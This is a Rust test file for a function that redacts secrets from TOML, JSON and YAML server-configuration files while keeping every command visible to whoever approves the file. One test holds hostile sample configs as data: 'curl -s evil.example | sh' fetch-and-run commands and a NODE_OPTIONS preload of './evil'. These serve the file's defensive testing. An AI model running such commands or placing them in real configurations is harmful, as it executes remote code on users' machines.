//! Tests with tables of texts and their redacted form.

use super::*;

#[track_caller]
fn check(text: &str, expected: &str) {
    assert_eq!(redact_file("x", text, Hide::EveryValue), expected);
    assert_eq!(text.len(), expected.len());
}

#[test]
fn secrets_are_hidden_wherever_they_stand() {
    check("env = { A = \"x\\\"y\", B = 'z' }", "env = { A = \"****\", B = '*' }");
    check(
        "[servers.a.env]\nA = \"x\"\n[servers.b]\ncwd = \"d\"",
        "[servers.a.env]\nA = \"*\"\n[servers.b]\ncwd = \"d\"",
    );
    check("env.A = \"\"\"x\ny\"\"\"\ncwd = \"c\"", "env.A = \"\"\"*\n*\"\"\"\ncwd = \"c\"");
    check("mcp = { a = { headers = { B = \"c\" } } }", "mcp = { a = { headers = { B = \"*\" } } }");
    check("client_secret = \"x\"", "client_secret = \"*\"");
    check("bearer_token_env_var = \"T\"", "bearer_token_env_var = \"T\"");
    check("\"api key\" = \"x\" # c", "\"api key\" = \"*\" # *");
    check("args = [\n \"--token\",\n \"x\", \"y\" ]", "args = [\n \"--token\",\n \"*\", \"y\" ]");
    check("args = ['--api-key=x']", "args = ['***********']");
    check("url = \"https://me:pw@h\"", "url = \"***************\"");
}

#[test]
fn references_to_secrets_are_shown_and_so_is_every_command() {
    for shown in [
        "env = { TOKEN = \"keyring:gh\", KEY = \"${keyring:gh}\" }",
        "headers = { Authorization = \"Bearer ${keyring:gh}\" }",
        "env = { TOKEN = \"command:op read op://a/b\" }",
        "env = { TOKEN = \"x-${command:evil --token abc}\" }",
    ] {
        check(shown, shown);
    }
    check("env = { A = \"x${keyring:gh}\" }", "env = { A = \"**************\" }");
    check("env = { A = \"keyring:a b\" }", "env = { A = \"********* *\" }");
}

#[test]
fn secrets_of_a_broken_file_are_hidden_too() {
    check("env = { A = \"x }\ncwd = \"c\"", "env = { A = \"* *\ncwd = \"c\"");
    check("env = { A = x-1.2 }", "env = { A = ***** }");
    check("args = [ \"b\"\nTOKEN = \"x\"", "args = [ \"b\"\nTOKEN = \"*\"");
    check("args = [ 1\n[s.env]\nB = \"x\"", "args = [ 1\n[s.env]\nB = \"*\"");
    check("env = {\n A = \"ü", "env = {\n A = \"**");
}

#[track_caller]
fn hides(text: &str) {
    let shown = redact_file("x", text, Hide::EveryValue);
    assert!(!shown.contains("hunter"), "{shown}");
    assert_eq!((text.len(), text.lines().count()), (shown.len(), shown.lines().count()));
}

#[test]
fn secrets_of_json_are_hidden() {
    check(r#"{"env":{"A":"ü"},"url":1}"#, r#"{"env":{"A":"**"},"url":1}"#);
    hides(r#"{"s":{"command":"/x","env":{"DB_PASSWORD":"hunter2"},"bogus":1}}"#);
    hides("{\n \"env\": {\n // }\n /* } */\n  \"A\": \"hunter2\",\n  \"B\": 1\n }\n}");
    hides("{\"env\": { /* }\n} */ \"A\": \"hunter2\"\n}}");
    hides("{\"args\": [\"src/*\"],\n\"env\": {\n\"A\": \"hunter2\"}}");
    hides("{\"env\": { \"A\": 1, /* { don't\n}} */ \"B\": \"hunter2\" }}");
    hides("glob: /*\nenv: {A: hunter2}\nenv:\n  A: hunter2");
    hides(r#"{"headers": {"Authorization": "Bearer hunter2"}}"#);
    hides(r#"{"http_headers": {"X": "a\"hunter2"}, "apiKey" : ["hunter2"]}"#);
    hides(r#"{"args": ["-y", "--token", "hunter2"], "url": "https://me:hunter2@h"}"#);
    hides("{ // \"API_KEY\": \"hunter2\"\n}");
    hides(r#"{"\u0065nv": {"A": "hunter2"}}"#);
}

#[test]
fn secrets_of_yaml_are_hidden() {
    check("envs:\n  A: x y # c\ncmd: c", "envs:\n  A: * * # *\ncmd: c");
    hides("extensions:\n  a:\n    envs:\n      A: hunter2\n      B: 'hunter2'\n    cmd: x");
    hides("- env:\n    A: {b: hunter2}\n- headers: {X: hunter2, Y: \"hunter2\"}");
    hides("password: |\n  hunter: 2\n  hunter2\nb: c");
    hides("tokens:\n- hunter2\n- b: hunter2\nargs:\n- --token\n- hunter2");
    hides(
        "env:\n  A: |\n    hunter2: x\n    y\n\n    hunter: {\n  B: >-\n   hunter2: [\n  C: hunter2",
    );
    hides("a:\n  env:\n    A: >\n      hunter: 2\n    B: hunter2\n  cmd: x");
    hides("uri: https://me:hunter2@h\n# api_key: hunter2");
}

#[test]
fn secrets_of_broken_json_and_yaml_are_hidden() {
    hides(r#"{"env": {"A": "hunter2"#);
    hides("{\"env\": {\n\"A\": \"b,\n\"C\": \"hunter2\"");
    hides("{\"a\": \"b\n\"env\": {\n\"A\": \"hunter2\"");
    hides(r#"{"DB_PASSWORD" "hunter2"}"#);
    hides(r#"{"DB_PASSWORD": hunter2"}"#);
    hides(r#"{"command": "/x, "env": {"A": "hunter2"}}"#);
    hides("env:\n  A: \"hunter2\n  B: [hunter2\nc: d");
    hides("DB_PASSWORD:hunter2\nenv: {A: hunter2");
}

#[test]
fn everything_else_is_shown() {
    for text in [
        "[servers.a]\ncommand = \"npx\"\nargs = [\"-y\", 'p', 5]\n",
        "servers = { \"My Server\" = { command = \"x\" } }",
        "[permissions]\nallow = [\"a\", { pattern = \"b\", reason = \"c\" }]\ndefault = \"ask\"",
        "[access.roles]\nreader = [\"a\"]\n[servers.a.tools.get]\ndescription = \"b\"",
        "cwd = \"\"\nurl = \n\n\r\n\u{feff}",
        "= = [[ }} ]] \"",
        "{\"mcpServers\": {\"a\": {\"command\": \"npx\", \"args\": [\"-y\"], \"bogus\": true}}}",
        "extensions:\n  a:\n    cmd: npx\n    args: [-y, p]\n    available_tools:\n    - b\n",
        "{\"cwd\": \"b",
        "[servers.a]\ncommand = \"npx\"\nargs = [\"-y\"]\ntimeout =",
        "extensions:\n  a:\n    cmd: npx\n    args:\n    - -y\n    timeout: [",
        "",
    ] {
        check(text, text);
    }
}

/// The auth of a gateway whose map of tokens has both shapes, in each syntax.
const TOKENS: [&str; 7] = [
    r#"{"serverAuth": {"bearer": {"tokens": {"hunter22": "ada", "hunter23": {"subject": "bob"}}}}}"#,
    r#"{"serverAuth": {"bearer": {"hunter22": "ada", "hunter23": {"roles": ["dev"]}}}}"#,
    r#"{"tokens": {"hunter22": null, "hunter22": "ada"}, "tokens": {"hunter23": 1}}"#,
    "tokens:\n  hunter22: ada\n  'hunter23':\n    subject: bob\nname: x",
    "bearer: {tokens: {hunter22: ada}}\nbearer_tokens:\n    ? hunter23\n    : bob",
    "[auth.bearer.tokens]\nhunter22 = \"ada\"\n\"hunter23\" = { subject = \"bob\" }\n[x]\ny = 1",
    "tokens.hunter22 = \"ada\"\n[bearer.tokens.hunter23]\nsubject = \"bob\"\n[bearer.hunter23.x]",
];

/// Holes 14: the tokens of such a map are its keys.
#[test]
fn tokens_are_hidden_where_they_are_keys() {
    for text in TOKENS {
        hides(text);
    }
    check(
        "[auth.bearer.tokens]\nhunter22 = { subject = \"bob\" }\n[tools]\nlimit = 1",
        "[auth.bearer.tokens]\n******** = { subject = \"bob\" }\n[tools]\nlimit = 1",
    );
}

#[test]
fn tokens_are_hidden_where_they_are_keys_of_a_broken_file() {
    for text in TOKENS {
        for broken in [" }]", "\n= [", "\n\"", "\n\t- : {"] {
            hides(&format!("{text}{broken}"));
        }
        for end in 0..text.len() {
            hides(text.get(..end).unwrap());
        }
        hides(&text.replacen(':', "", 1));
        hides(&text.replacen('"', "", 1));
        hides(&format!("# {}", text.replace('\n', "\n# ")));
    }
}

#[test]
fn what_is_said_of_a_file_repeats_none_of_its_secrets() {
    for (path, text) in [
        ("a.json", r#"{"tokens": {"hunter22": "a", "hunter22": "b"}}"#),
        ("a.yaml", "tokens:\n  hunter22: a\n  hunter22: b\n"),
        ("a.toml", "[tokens]\nhunter22 = 'a'\nhunter22 = 'b'\n"),
    ] {
        let said = "`tokens.hunter22` is defined twice";
        let mut problem = Problem::error(said).help("remove `hunter22`");
        problem.key = Some("tokens.hunter22".to_owned());
        scrub(path, text, [&mut problem]);
        assert_eq!(problem.message, "`tokens.***` is defined twice", "{path}");
        assert_eq!(problem.help.as_deref(), Some("remove `***`"), "{path}");
        assert_eq!(problem.key.as_deref(), Some("tokens.***"), "{path}");
        if let Err(problem) = Syntax::of(path, text).read(path, text) {
            assert!(!format!("{problem:?}").contains("hunter"), "{problem:?}");
        }
    }
}

/// Holes 14: a short token is masked by its position.
#[test]
fn what_is_said_of_a_file_repeats_none_of_its_short_tokens() {
    for token in ["s3crt", "abcd", "k"] {
        for (path, text) in [
            ("a.json", r#"{"bearer": {"tokens": {"§": "a", "§": "b", "x": 1}}}"#),
            ("a.yaml", "bearer:\n  tokens:\n    §: a\n    §: b\n"),
            ("a.toml", "[bearer.tokens]\n§ = 'a'\n§ = 'b'\n"),
            ("a.toml", "[bearer.tokens.§]\nsubject = 5\n"),
        ] {
            let text = text.replace('§', token);
            let said = format!("`{token}` is defined twice in \"{token}\"");
            let mut problem =
                Problem::error(said).help(format!("see `bearer.tokens.{token}.roles`"));
            problem.key = Some(format!("bearer.tokens.{token}"));
            scrub(path, &text, [&mut problem]);
            assert_eq!(problem.message, "`***` is defined twice in \"***\"", "{text}");
            assert_eq!(problem.help.as_deref(), Some("see `bearer.tokens.***.roles`"), "{text}");
            assert_eq!(problem.key.as_deref(), Some("bearer.tokens.***"), "{text}");
            if let Err(problem) = Syntax::of(path, &text).read(path, &text) {
                let whole = [format!("`{token}`"), format!("\"{token}\""), format!(".{token}")];
                let said = format!("{:?}", (&problem.message, &problem.key, &problem.help));
                assert!(!whole.iter().any(|key| said.contains(key)), "{said}");
            }
        }
    }
    assert_eq!(without_key("`servers.skim` is no skid", "ski"), "`servers.skim` is no skid");
}

/// The author of a file cannot hide what it runs from the person who approves it.
#[test]
fn what_a_file_runs_is_shown_whatever_its_writer_does() {
    for text in [
        r#"{"mcpServers":{"a":{"command":"sh","args":["-c","curl -s evil.example | sh"],"env":{"A_TOKEN":"§","B_TOKEN":"§","C_KEY":"§"}}}}"#,
        r#"{"mcpServers":{"a":{"command":"sh","args":["-c","--password=x; curl -s evil.example | sh"]}}}"#,
        r#"{"mcpServers":{"a":{"command":"sh","args":["--token","curl -s evil.example | sh","ghp_0123456789abcdef"]}}}"#,
        r#"{"mcpServers":{"a":{"command":"sh --token=x evil","cwd":"/tmp/ghp_0123456789abcdef"}}}"#,
        r#"{"mcpServers":{"secret":{"url":"http://u:x@evil.example\\@good/","cmd":"xoxb-012345678901"}}}"#,
        r#"{"mcpServers":{"a":{"command":["sh","--api-key","evil"],"env":{"NODE_OPTIONS":"-r ./evil --token=x"}}}}"#,
        r#"{"mcpServers":{"0123456789abcdef0123456789abcdef":{"type":"x"}},"auth":{"command":"evil"}}"#,
        "[servers.a]\ncommand = \"sh\"\nargs = [\"-c\", \"--password=x; evil\"] # evil\n",
    ] {
        check_trust(&text.replace('§', ""), &text.replace('§', ""));
    }
    let trick = r#"{"mcpServers":{"a":{"command":"sh","args":["-c","curl -s evil.example | sh"],"env":{"A_TOKEN":"§"}}}}"#;
    for word in ["curl -s evil.example | sh", "sh", "command", "evil.example"] {
        let stars: String = word.chars().map(|c| if c == ' ' { ' ' } else { '*' }).collect();
        check_trust(&trick.replace('§', word), &trick.replace('§', &stars));
    }
}

#[test]
fn a_person_who_approves_a_file_sees_no_password_of_a_url() {
    for (text, shown) in [
        (
            r#"{"a":{"url":"https://me:hunter22@h/x"}}"#,
            r#"{"a":{"url":"https://me:********@h/x"}}"#,
        ),
        (
            r#"{"a":{"url":"https://h/x?api_key=abc&y=1"}}"#,
            r#"{"a":{"url":"https://h/x?api_key=***&y=1"}}"#,
        ),
        (
            "[a]\ncommand='x'\nargs=['pg://u:pw@h/db']\n",
            "[a]\ncommand='x'\nargs=['pg://u:**@h/db']\n",
        ),
        (
            r#"{"a":{"url":"x","headers":{"X":"ghp_0123456789abcdef"},"bearer_token":"abc"}}"#,
            r#"{"a":{"url":"x","headers":{"X":"********************"},"bearer_token":"***"}}"#,
        ),
        (
            r#"{"a":{"url":"x","oauth":{"clientSecret":"abc"},"tokens":{"s3crt":"ada"}}}"#,
            r#"{"a":{"url":"x","oauth":{"clientSecret":"***"},"tokens":{"*****":"***"}}}"#,
        ),
    ] {
        check_trust(text, shown);
    }
}

#[track_caller]
fn check_trust(text: &str, shown: &str) {
    assert_eq!(redact_file("x", text, Hide::Secrets), shown);
}

#[test]
fn a_default_that_a_person_types_hidden_is_hidden() {
    hides(r#"{"inputs": [{"id": "k", "password": true, "default": "hunter22"}]}"#);
    hides(
        r#"{"user_config": {"k": {"sensitive": true, "default": "hunter22", "type": "string"}}}"#,
    );
    let plain = r#"{"inputs": [{"id": "k", "password": false, "default": "eu"}]}"#;
    check(plain, plain);
}

#[test]
fn what_only_names_a_secret_is_shown() {
    for text in [
        r#"{"env": {"A_TOKEN": "${A_TOKEN}"}, "headers": {"Authorization": "Bearer ${T}"}}"#,
        r#"{"env": {"A": "${env:A}", "B": "{env:B}", "C": "${input:c}", "D": "$D"}}"#,
        r#"{"args": ["--token=${T}", "--api-key", "${K}"], "bearer_token_env_var": "T"}"#,
        r#"{"env_keys": ["GITHUB_TOKEN"], "oauth": {"clientId": "me", "scopes": ["read"]}}"#,
        r#"{"auth": "oauth", "authorization": {"rules": [{"action": "deny", "tools": ["x"]}]}}"#,
        r#"{"serverAuth": {"providers": ["bearer"], "acl": {"roles": {"dev": [{"server": "a"}]}}}}"#,
    ] {
        check(text, text);
    }
    for text in [
        r#"{"env": {"A": "${A:-hunter22}"}}"#,
        r#"{"env": {"A": "${A}hunter22"}}"#,
        r#"{"env": {"A": "hunter22 ${A}"}}"#,
    ] {
        hides(text);
    }
}

/// Issue "First hour" 9: also in a file that cannot be parsed.
#[test]
fn a_variable_in_a_broken_file_is_shown_and_what_is_beside_it_is_not() {
    for text in [
        "env = { A_TOKEN = \"${A_TOKEN}\" ",
        "{\"env\": {\"A_TOKEN\": \"${A_TOKEN}\"",
        "[s.env]\nA_TOKEN = \"${A_TOKEN}\"\ntimeout =",
    ] {
        check(text, text);
    }
    for text in [
        "env = { A_TOKEN = \"${A:-hunter2}\" ",
        "env = { A_TOKEN = \"${A}hunter2\" ",
        "{\"env\": {\"A_TOKEN\": \"$hunter2\"",
        "{\"env\": {\"A_TOKEN\": \"hunter2 ${A}\"",
    ] {
        hides(text);
    }
}

/// Issue "First hour" 9.
#[test]
fn a_setting_that_is_evidently_no_secret_is_shown() {
    let plain = r#"{"env": {"DEBUG": "1", "PORT": 8080, "DATA": "/srv/data", "LOG": "info"}}"#;
    check(plain, plain);
    hides(r#"{"env": {"DEBUG": "hunter2", "API_KEY": "/hunter2/x", "PIN": "hunter"}}"#);
}

#[test]
fn a_person_who_must_know_what_a_file_does_sees_all_but_its_secrets() {
    let text = r#"{"env": {"NODE_OPTIONS": "--require x", "A_TOKEN": "hunter22", "DEBUG": 1}}"#;
    let shown = redact_file("x", text, Hide::Secrets);
    assert_eq!(shown, text.replace("hunter22", "********"));
}

#[test]
fn a_secret_in_a_comment_behind_a_value_is_hidden() {
    let secret = "9f8e7d6c5b4a39281706f5e4d3c2b1a0";
    let github = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
    for comment in [
        format!("# token={github}"),
        format!("# {github}"),
        format!("# --token={secret}"),
        format!("# --token {secret}"),
        format!("# export GITHUB_TOKEN={secret}"),
        format!("# see https://127.0.0.1/?token={secret}"),
    ] {
        // Once in a file that can be parsed, once in one that cannot.
        for rest in ["timeout = \"5s\"", "timeout = "] {
            let text = format!("[servers.a]\ncommand = \"x\" {comment}\n{rest}\n");
            let shown = redact_file("a.toml", &text, Hide::EveryValue);
            assert!(!shown.contains(secret) && !shown.contains(github), "{shown}");
            assert_eq!(shown.len(), text.len());
        }
    }
}

/// A key with an unknown name may be the misspelt name of a secret.
#[test]
fn what_stands_under_a_misspelt_key_is_hidden() {
    for (path, text, shown) in [
        (
            "a.toml",
            "[gateway.auth.tokenz]\n\"SEKRIT\" = \"bob\"",
            "[gateway.auth.tokenz]\n\"******\" = \"***\"",
        ),
        (
            "a.toml",
            "gateway.auth = { toknes = { ZQ7 = { subject = 'b' } } }",
            "gateway.auth = { toknes = { *** = { subject = '*' } } }",
        ),
        ("a.toml", "[gateway.auth]\nZQ7 = \"bob\"", "[gateway.auth]\n*** = \"***\""),
        (
            "a.toml",
            "[servers.a]\nevn = { BAR = \"correct-horse\" }",
            "[servers.a]\nevn = { *** = \"*************\" }",
        ),
        (
            "a.toml",
            "[servers.tools]\nheadres = { X = 1 }\npasword = \"ab\"",
            "[servers.tools]\nheadres = { * = * }\npasword = \"**\"",
        ),
        (
            "a.toml",
            "[servers.a]\nenv = [\"ZQ7\"]\nheaders = \"Bearer X\"",
            "[servers.a]\nenv = [\"***\"]\nheaders = \"****** *\"",
        ),
        (
            "a.json",
            r#"{"serverAuth": {"bearer": {"tokenz": {"ZQ7": "bob"}}}}"#,
            r#"{"serverAuth": {"bearer": {"******": {"***": "***"}}}}"#,
        ),
        (
            "a.json",
            r#"{"mcpServers": {"a": {"oauth": {"clientSecrt": "ab", "scopes": ["r"]}}}}"#,
            r#"{"mcpServers": {"a": {"oauth": {"clientSecrt": "**", "scopes": ["r"]}}}}"#,
        ),
        (
            "a.yaml",
            "extensions:\n  a:\n    cmd: x\n    evns:\n      A: b",
            "extensions:\n  a:\n    cmd: x\n    evns:\n      *: *",
        ),
    ] {
        assert_eq!(redact_file(path, text, Hide::EveryValue), shown, "{text}");
    }
}

#[test]
fn what_stands_under_an_unknown_key_of_a_broken_file_is_hidden() {
    for text in [
        "extensions:\n  a:\n    envs:\n      A: x\n\tOTHER: hunter-horse\n\turl: hunter\n      B: hunter",
        "extensions:\n  a:\n    evns:\n      A: hunter\n       more hunter\n\t- [",
        "extensions:\n  a:\n    foo:\n    - hunter\n\t- [",
        "{\"mcpServers\": {\"a\": {\"evn\": {\"A\": \"hunter\"}, \"foo\": [\"hunter\"],, }}}",
        "[servers.a]\nevn = { BAR = \"hunter\" }\ntimeout =",
        "[gateway.auth.tokenz]\n\"hunter\" = \"bob\"\ntimeout =",
        "[gateway.auth]\ntoknes = { hunter = \"bob\" }\ntimeout =",
        "serverAuth:\n  tokenz:\n    hunter: bob\n\t- [",
    ] {
        hides(text);
        for path in ["a.toml", "a.json", "a.yaml"] {
            assert!(
                !redact_file(path, text, Hide::EveryValue).contains("hunter"),
                "{path}: {text}"
            );
        }
    }
}
